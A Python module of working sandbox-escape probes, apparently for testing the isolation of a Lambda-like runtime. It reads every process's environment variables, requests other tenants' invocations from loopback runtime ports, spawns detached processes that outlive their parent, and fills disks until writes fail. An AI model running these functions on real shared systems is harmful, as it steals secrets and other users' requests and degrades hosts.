"""Attacks, each with what it reached."""

import ctypes
import os
import socket
import subprocess
from pathlib import Path
from typing import Any

_PIECE = b"x" * 65_536


def nothing(event: Any) -> Any:
    return event


def keep(event: str) -> None:
    Path(os.environ["TMPDIR"], event).write_text(event)


def look(event: Any) -> Any:
    """The process itself, and things that lie about."""
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines())
    return {
        "user": int(status["Uid"].split()[0]),
        "capabilities": [status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")],
        "no_new_privs": status["NoNewPrivs"],
        "folder": str(Path.cwd()),
        "environments": [_content(path) for path in Path("/proc").glob("[0-9]*/environ")],
        "nested": subprocess.run(
            ["/usr/bin/unshare", "-U", "true"], stderr=subprocess.DEVNULL, check=False
        ).returncode,
        "ssl": sorted(each.name for each in Path("/etc/ssl").iterdir()),
    }


def _content(path: Path) -> str:
    try:
        return path.read_text()
    except OSError:
        return ""


def read(event: list[str]) -> list[bool]:
    """True for each of these files that can be read."""
    return [_reads(path) for path in event]


def _reads(path: str) -> bool:
    try:
        Path(path).read_bytes()
    except OSError:
        return False
    return True


def steal(event: Any) -> Any:
    """Ask every port that listens on loopback, but for one's own, for its next invocation."""
    own = int(os.environ["AWS_LAMBDA_RUNTIME_API"].rpartition(":")[2])
    answers = [_asked(port) for port in _listening() - {own}]
    return [answer for answer in answers if "Lambda-Runtime-Aws-Request-Id" in answer]


def _listening() -> set[int]:
    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return {int(line[1].rpartition(":")[2], 16) for line in lines if line[3] == "0A"}


def _asked(port: int) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.3) as api:
            api.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n")
            return api.recv(65_536).decode(errors="replace")
    except OSError:
        return ""


def connect(event: list[str]) -> list[str]:
    """The answers of these addresses."""
    return [_answer_of(address) for address in event]


def _answer_of(address: str) -> str:
    host, _, port = address.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=2) as there:
            there.sendall(b"who?\n")
            return there.recv(100).decode()
    except OSError as error:
        return type(error).__name__


def outlive(event: list[str]) -> bool:
    """Leave a process behind: its parent ends, it has a session of its own and none of the environment."""
    there, here = os.pipe()
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(event[0], event, {})
        os._exit(0)
    os.waitpid(child, 0)
    os.close(here)
    return os.read(there, 1) == b""  # closed by its last holder's execve


def outlive_the_reaper(event: list[str]) -> bool:
    """The same, by a process that first gives up being told of its descendants."""
    ctypes.CDLL(None).prctl(36, 0, 0, 0, 0)
    return outlive(event)


def fill(event: dict[str, Any]) -> dict[str, int]:
    """Write until it is refused, or so much is written; how much, by folder."""
    return {folder: _filled(folder, event["bytes"]) for folder in event["folders"]}


def _filled(folder: str, most: int) -> int:
    written = 0
    try:
        with Path(folder, "filling").open("wb", buffering=0) as file:
            while written < most:
                written += file.write(_PIECE)
    except OSError:
        pass
    return written
